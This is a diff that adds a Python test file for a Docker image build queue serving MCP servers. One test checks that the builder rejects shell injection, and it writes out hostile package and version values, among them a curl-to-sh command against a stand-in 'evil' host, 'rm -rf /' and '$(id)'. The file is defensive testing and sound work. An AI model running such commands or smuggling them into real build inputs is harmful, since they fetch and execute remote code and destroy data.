@@ -0,0 +1,105 @@
+"""
+War Room 2.0 - 이미지 빌드 큐 테스트 (Docker 불필요)
+"""
+
+import asyncio
+import time
+from unittest.mock import Mock
+
+from src.image_builder import (
+    BUILDKIT_DOCKERFILE,
+    ImageBuilder,
+    ImageBuildError,
+    ImageBuildResult,
+    render_dockerfile,
+)
+
+
+def _make_builder(**kwargs):
+    client = Mock()
+
+    def build(**build_kwargs):
+        time.sleep(0.05)
+
+    client.images.build.side_effect = build
+    client.images.get.return_value = Mock(attrs={"Size": 150 * 1024 * 1024})
+
+    builder = ImageBuilder(client, **kwargs)
+    builder._docker_cli = None  # SDK 빌드 경로 사용
+    return builder, client
+
+
+def test_concurrent_builds_are_deduplicated():
+    """같은 이미지 동시 빌드 요청은 한 번만 빌드"""
+    async def scenario():
+        builder, client = _make_builder()
+        results = await asyncio.gather(*[
+            builder.build("server-docker", "@mcp/server-docker", "1.0.0", "mcp/server-docker:latest")
+            for _ in range(3)
+        ])
+        return client, results
+
+    client, results = asyncio.run(scenario())
+
+    assert client.images.build.call_count == 1
+    assert all(r.size_mb == 150 for r in results)
+    dockerfile = client.images.build.call_args.kwargs["fileobj"].getvalue().decode()
+    assert "npm install" in dockerfile and "@mcp/server-docker@1.0.0" in dockerfile
+
+
+def test_listener_receives_real_image_size():
+    """빌드 완료 리스너에 실제 이미지 크기 전달"""
+    async def scenario():
+        builder, _ = _make_builder(max_parallel_builds=1)
+        built = []
+        builder.add_listener(built.append)
+        await asyncio.gather(
+            builder.schedule("a", "pkg-a", "1.0.0", "mcp/a:latest"),
+            builder.schedule("b", "pkg-b", "2.0.0", "mcp/b:latest"),
+        )
+        return built
+
+    built = asyncio.run(scenario())
+
+    assert sorted(r.server_name for r in built) == ["a", "b"]
+    assert all(isinstance(r, ImageBuildResult) and r.size_mb == 150 for r in built)
+
+
+def test_rejects_shell_injection_in_package_or_version():
+    """Catalog에서 온 패키지/버전에 셸 문자가 있으면 Dockerfile을 만들지 않음"""
+    dockerfile = render_dockerfile(
+        BUILDKIT_DOCKERFILE, "mcp/base:latest", "@modelcontextprotocol/server-redis", "1.2.3-beta.1+b5"
+    )
+    assert "@modelcontextprotocol/server-redis@1.2.3-beta.1+b5" in dockerfile
+
+    for package, version in (
+        ("pkg", "1.0 && curl http://evil | sh"),
+        ("pkg; rm -rf /", "1.0.0"),
+        ("pkg\nRUN id", "1.0.0"),
+        ("pkg", "$(id)"),
+        ("pkg\n", "1.0.0\n"),
+    ):
+        try:
+            render_dockerfile(BUILDKIT_DOCKERFILE, "mcp/base:latest", package, version)
+            assert False, f"거부되어야 함: {package!r}@{version!r}"
+        except ImageBuildError:
+            pass
+
+    async def scenario():
+        builder, client = _make_builder()
+        try:
+            await builder.build("evil", "pkg", "1.0 && curl http://evil | sh", "mcp/evil:latest")
+            assert False, "빌드가 거부되어야 함"
+        except ImageBuildError:
+            pass
+        return client
+
+    client = asyncio.run(scenario())
+    assert client.images.build.call_count == 0
+
+
+if __name__ == "__main__":
+    test_concurrent_builds_are_deduplicated()
+    test_listener_receives_real_image_size()
+    test_rejects_shell_injection_in_package_or_version()
+    print("✅ 이미지 빌드 큐 테스트 통과")